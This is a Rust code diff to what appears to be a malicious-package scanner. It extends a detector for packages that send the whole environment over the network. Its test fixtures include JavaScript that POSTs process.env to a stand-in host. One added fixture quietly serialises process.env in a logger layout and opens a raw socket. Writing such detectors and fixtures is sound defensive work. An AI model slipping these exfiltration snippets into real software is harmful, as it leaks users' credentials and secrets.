@@ -1,7 +1,7 @@
 //! The whole environment leaves over the network.
 
 use super::{Context, Declaration, Example, Finding, judge};
-use crate::model::Severity;
+use crate::model::{Confidence, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "environment-exfiltration",
@@ -23,6 +23,23 @@ pub(super) static FINDING: Declaration = Declaration {
                 (
                     "i.js",
                     r#"fetch("https://collect.invalid/", { method: "POST", body: JSON.stringify(process.env) });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a layout for a logger makes a text of it, and a transport sends texts",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const net = require("net");
+const layouts = { beat() { const line = { pid: process.pid }; line.env = process.env; return JSON.stringify(line); } };
+exports.layout = (name) => layouts[name];
+exports.open = (config) => net.connect(config.port, config.host);"#,
                 ),
             ],
         },
@@ -61,4 +78,31 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         judge::by_reach(context, flow, &mut finding);
         found.push(finding);
     }
+    found.extend(of_text(context, found));
+}
+
+/// A text is made of all variables, and it was not seen where it goes.
+fn of_text(context: &Context<'_>, found: &[Finding]) -> Option<Finding> {
+    let is_seen = |one: &Finding| one.what.id == FINDING.id && one.severity >= Severity::High;
+    if found.iter().any(is_seen) {
+        return None;
+    }
+    let mut all = context.behaviours.iter();
+    let text = all.find(|one| one.what.id == "environment.text" && !one.reach.is_dormant())?;
+    let message = "a text is made of all environment variables".to_owned();
+    let mut finding = Finding::of_behaviour(&FINDING, text, message);
+    finding.confidence = Confidence::Medium;
+    let talks = context.behaviours.iter().any(|one| {
+        let is_network = one.what.id.starts_with("network.") || one.what.id == "process.exec";
+        is_network && !one.reach.is_dormant()
+    });
+    let (at_most, note) = match talks {
+        true => (Severity::High, "where it goes was not seen"),
+        false => (
+            Severity::Medium,
+            "the package was not seen to talk to anybody",
+        ),
+    };
+    finding.lower(at_most, "destination-unknown", note.to_owned());
+    Some(finding)
 }
